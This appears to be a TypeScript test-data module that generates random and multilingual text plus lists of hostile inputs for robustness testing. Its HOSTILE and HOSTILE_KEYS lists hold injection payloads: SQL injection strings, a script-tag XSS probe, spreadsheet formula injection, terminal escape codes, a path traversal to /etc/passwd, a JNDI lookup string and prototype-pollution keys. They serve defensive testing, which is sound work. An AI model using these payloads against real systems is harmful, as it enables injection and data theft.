import { integerBelow, pick, type Random } from "../random.ts";

const ALPHABET = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";

/** Letters and digits. */
export function randomText(random: Random, length: number): string {
  const codes: number[] = [];
  for (let i = 0; i < length; i++) codes.push(ALPHABET.charCodeAt(integerBelow(random, ALPHABET.length)));
  // Not by concatenation, whose result would keep every piece in memory.
  return String.fromCharCode(...codes);
}

/** Texts that people write, from several scripts: combining marks, right to left, outside of the basic plane. */
export const WORDS: readonly string[] = [
  "refund",
  "delivery question",
  "Müller & Söhne",
  "Ünïcödé",
  "日本語サポート",
  "مرحبا",
  "שלום",
  "नमस्ते",
  "e\u0301te\u0301",
  "😀 satisfied",
  "👩🏽‍🚀",
  "𝒳-ray",
];

/** Texts that break what does not treat them as text: terminals, sheets, pages, queries, file names. */
export const HOSTILE: readonly string[] = [
  "\u001b[31mred\u001b[0m\u001b[2J",
  "\u001b]8;;https://example.invalid\u0007link\u001b]8;;\u0007",
  '=HYPERLINK("https://example.invalid","click")',
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "<script>alert(1)</script>",
  "'; DROP TABLE users; --",
  '"quoted", with a comma',
  "two\nlines\r\nand more",
  "tab\tand\u0000null",
  "\u202egnirts desrever\u202c",
  "zero\u200bwidth\ufeff",
  "../../etc/passwd",
  "$" + "{jndi:ldap://example.invalid/a}",
  '\\" OR "1"="1',
  "a\ud800lone surrogate",
  "x".repeat(2000),
  " ",
  "null",
];

/** Keys that break what treats an object as a map without care. */
export const HOSTILE_KEYS: readonly string[] = [
  "__proto__",
  "constructor",
  "a.b",
  "=key",
  "",
  "key with spaces",
];

/** A text shaped like one of these: what follows its last dash is other. */
export function textLike(random: Random, examples: readonly string[]): string {
  const example = pick(random, examples);
  const dash = example.lastIndexOf("-") + 1;
  return [example.slice(0, dash), randomText(random, Math.max(4, example.length - dash))].join("");
}
